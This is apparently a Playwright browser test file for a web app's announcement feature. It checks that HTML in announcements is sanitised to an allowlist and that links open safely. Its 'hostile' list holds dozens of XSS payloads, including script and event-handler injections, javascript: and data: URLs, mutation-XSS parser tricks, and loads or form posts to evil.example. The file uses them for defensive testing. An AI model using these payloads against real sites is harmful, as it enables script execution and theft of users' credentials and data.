/**
 * Announcements in HTML, tested in a real browser (Q-HTMLXSS). An announcement never runs a script,
 * loads a resource or changes the look of the page. Only the HTML parser of a browser can prove
 * this. The response that contains the announcements is simulated.
 */
import type { Page } from '@playwright/test';
import { signIn } from './support/accounts.ts';
import { DEMO_PASSWORD, expect, test } from './support/server.ts';

/** Known ways in which HTML runs a script, loads a resource or changes the look. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<body onload=alert(1)>',
  '<b onmouseover="alert(1)">x</b>',
  '<p ONCLICK=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/s/abcdefghij">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<p class="dialog-root" id="root" name="body">x</p>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<template><script>alert(1)</script></template>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<p data-x="1" aria-label="y" contenteditable>x</p>',
  '<custom-thing onclick=alert(1)>x</custom-thing>',
  '<a href="https://ok.example" onclick=alert(1) target=_self rel=opener style=x download>x</a>',
];

const tags = new Set(
  (
    'p br hr b strong i em u s small mark sub sup code pre h1 h2 h3 h4 h5 h6 blockquote ul ol li a div span ' +
    'table thead tbody tr th td'
  ).split(' '),
);
const attributes = new Set(['href', 'title', 'colspan', 'rowspan', 'target', 'rel']);

/** Returns the elements and attributes of the shown message that are not allowed. */
async function foreign(page: Page): Promise<string[]> {
  const shown = await page.locator('[data-html-text] *').evaluateAll((elements) =>
    elements.map((element) => ({
      tag: element.localName,
      carried: [...element.attributes].map(({ name, value }) => [name, value] as const),
    })),
  );
  return shown.flatMap(({ tag, carried }) => [
    ...(tags.has(tag) ? [] : [tag]),
    ...carried
      .filter(
        ([name, value]) =>
          !attributes.has(name) || (name === 'href' && !/^(https?:\/\/|mailto:|tel:)/i.test(value)),
      )
      .map(([name]) => `${tag}[${name}]`),
  ]);
}

async function publish(page: Page, messages: readonly string[]): Promise<void> {
  await page.route('**/api/anuncios*', (route) =>
    route.fulfill({
      json: {
        anuncios: messages.map((mensagem, at) => ({
          id: at + 1,
          titulo: `aviso ${at + 1}`,
          mensagem,
          type: 1,
          date_formatted: '20/11/2026 14:32',
          timestamp: 1_795_195_920,
        })),
        atualizacoes: [],
        anunciosPortal: [],
        anunciosP2P: [],
        anunciosPortalP2P: [],
        total: 0,
        total_exact: true,
        current_page: 1,
        per_page: 5,
        last_page: 1,
      },
    }),
  );
}

test('hostile HTML is removed from an announcement', async ({ page, demo }) => {
  const ran: string[] = [];
  const requests: string[] = [];
  page.on('dialog', (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (/evil\.example|ok\.example/.test(request.url())) requests.push(request.url());
  });
  await publish(
    page,
    hostile.map((html) => `<p>antes</p>${html}`),
  );
  await signIn(page, demo.url, 'master', DEMO_PASSWORD);
  for (const [at, html] of hostile.entries()) {
    await page.getByRole('button', { name: new RegExp(`^aviso ${at + 1}(?!\\d)`) }).click();
    const dialog = page.getByRole('dialog', { name: `aviso ${at + 1}`, exact: true });
    await expect(dialog.getByText('antes', { exact: true })).toBeVisible();
    expect([html, await foreign(page)]).toEqual([html, []]);
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
  }
  expect({ ran, asked: requests }).toEqual({ ran: [], asked: [] });
});

test('allowed HTML of a message is unchanged, and its links open in a new tab', async ({
  page,
  demo,
}) => {
  const message =
    '<h3>Aviso</h3><p>No <b>domingo</b>, <em>cedo</em>:</p><ul><li>um</li></ul><ol><li>dois</li></ol>' +
    '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table><blockquote>fim<br>mesmo</blockquote>';
  const links = [
    'https://exemplo.com.br/guia?a=1',
    'http://exemplo.com.br',
    'mailto:a@b.com.br',
    'tel:+5511955550100',
  ];
  await publish(page, [
    message,
    links.map((href) => `<a href="${href}" rel="opener" target="_top">ver</a>`).join(''),
  ]);
  await signIn(page, demo.url, 'master', DEMO_PASSWORD);
  await page.getByRole('button', { name: /^aviso 1/ }).click();
  expect(await page.locator('[data-html-text]').innerHTML()).toBe(message);
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: /^aviso 2/ }).click();
  const shown = await page
    .locator('[data-html-text] a')
    .evaluateAll((links) =>
      links.map((link) => ['href', 'target', 'rel'].map((name) => link.getAttribute(name))),
    );
  expect(shown).toEqual(links.map((href) => [href, '_blank', 'noopener noreferrer']));
});
